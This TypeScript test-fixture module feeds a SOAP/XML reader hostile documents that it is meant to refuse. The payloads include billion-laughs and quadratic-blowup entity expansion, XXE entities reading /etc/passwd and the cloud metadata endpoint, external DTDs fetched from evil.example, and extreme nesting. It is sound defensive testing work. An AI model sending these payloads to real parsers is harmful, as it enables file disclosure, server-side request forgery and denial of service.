/**
 * Documents that attack an XML reader. Each one is harmless only if refused before parsing: a
 * reader that processed its DTD would expand, fetch or recurse.
 */
const laughs = (() => {
  let entities = '<!ENTITY lol "lol">';
  for (let i = 1; i <= 9; i++) entities += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
  return entities;
})();

const BODY = '<Envelope><Body><LayHoSoResponse><HoSo><MaHoSo>&x;</MaHoSo></HoSo></LayHoSoResponse></Body></Envelope>';

export const DECLARATION_ATTACKS: readonly [string, string][] = [
  ['billion laughs', `<?xml version="1.0"?><!DOCTYPE Envelope [${laughs}]><Envelope><Body>&lol9;</Body></Envelope>`],
  ['quadratic blowup', `<!DOCTYPE Envelope [<!ENTITY x "${'A'.repeat(50_000)}">]><Envelope><Body>${'&x;'.repeat(50_000)}</Body></Envelope>`],
  ['XXE with SYSTEM file', `<?xml version="1.0"?><!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>${BODY}`],
  ['XXE with SYSTEM http', `<!DOCTYPE Envelope [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>${BODY}`],
  ['XXE with PUBLIC', `<!DOCTYPE Envelope [<!ENTITY x PUBLIC "-//EVIL//X//EN" "http://evil.example/x.dtd">]>${BODY}`],
  ['parameter entities', `<!DOCTYPE Envelope [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p; <!ENTITY % q "<!ENTITY x 'y'>"> %q;]>${BODY}`],
  ['an external DTD', `<!DOCTYPE Envelope SYSTEM "http://evil.example/soap.dtd">${BODY}`],
  ['an external PUBLIC DTD', `<!DOCTYPE Envelope PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://evil.example/x.dtd">${BODY}`],
  ['a bare DOCTYPE', '<!DOCTYPE Envelope><Envelope><Body/></Envelope>'],
  ['an empty internal subset', '<!DOCTYPE Envelope []><Envelope><Body/></Envelope>'],
  ['leading whitespace', ' \n\t\r\n  <!DOCTYPE Envelope [<!ENTITY x "y">]><Envelope><Body>&x;</Body></Envelope>'],
  ['a BOM', '\uFEFF<!DOCTYPE Envelope [<!ENTITY x "y">]><Envelope><Body>&x;</Body></Envelope>'],
  ['a BOM and the XML declaration', '\uFEFF<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE Envelope [<!ENTITY x "y">]><Envelope/>'],
  ['comments first', '<!-- a --><!-- <Envelope> --><!DOCTYPE Envelope [<!ENTITY x "y">]><Envelope><Body>&x;</Body></Envelope>'],
  ['a processing instruction first', '<?xml-stylesheet type="text/xsl" href="x.xsl"?><!DOCTYPE Envelope [<!ENTITY x "y">]><Envelope/>'],
  ['mixed case DocType', '<!DocType Envelope [<!Entity x "y">]><Envelope><Body>&x;</Body></Envelope>'],
  ['lower case doctype', '<!doctype Envelope [<!entity x "y">]><Envelope><Body>&x;</Body></Envelope>'],
  ['an ENTITY without a DOCTYPE', '<Envelope><!ENTITY x "y"><Body>&x;</Body></Envelope>'],
  ['an ELEMENT declaration', '<!DOCTYPE Envelope [<!ELEMENT Envelope ANY>]><Envelope/>'],
  ['an ATTLIST declaration', '<!DOCTYPE Envelope [<!ATTLIST Envelope a CDATA "x">]><Envelope/>'],
  ['a NOTATION declaration', '<!DOCTYPE Envelope [<!NOTATION n SYSTEM "http://evil.example/n">]><Envelope/>'],
  ['a DOCTYPE inside the body', '<Envelope><Body><!DOCTYPE Body [<!ENTITY x "y">]>&x;</Body></Envelope>'],
  ['a DOCTYPE after the root', '<Envelope><Body/></Envelope><!DOCTYPE Envelope [<!ENTITY x "y">]>'],
];

/** Short names keep 100,000 levels under every preset's size limit, so it is the nesting that is refused. */
export const DEEP_NESTING = `<Envelope><Body>${'<b>'.repeat(100_000)}${'</b>'.repeat(100_000)}</Body></Envelope>`;

/** 50 MB of text in one element; built once, a flat string, so building it is not what is measured. */
export function hugeTextDocument(bytes = 50 * 1024 * 1024): string {
  return `<Envelope><Body><LayHoSoResponse><HoSo><MaHoSo>${'A'.repeat(bytes)}</MaHoSo></HoSo></LayHoSoResponse></Body></Envelope>`;
}

/** How much the heap grew while `fn` ran (after a collection, when the runtime exposes one). */
export async function heapGrowth(fn: () => unknown | Promise<unknown>): Promise<number> {
  const gc = (globalThis as { gc?: () => void }).gc;
  gc?.();
  const before = process.memoryUsage().heapUsed;
  let peak = before;
  const sample = setInterval(() => (peak = Math.max(peak, process.memoryUsage().heapUsed)), 5);
  try {
    await fn();
  } finally {
    clearInterval(sample);
  }
  return Math.max(peak, process.memoryUsage().heapUsed) - before;
}

export const MB = 1024 * 1024;
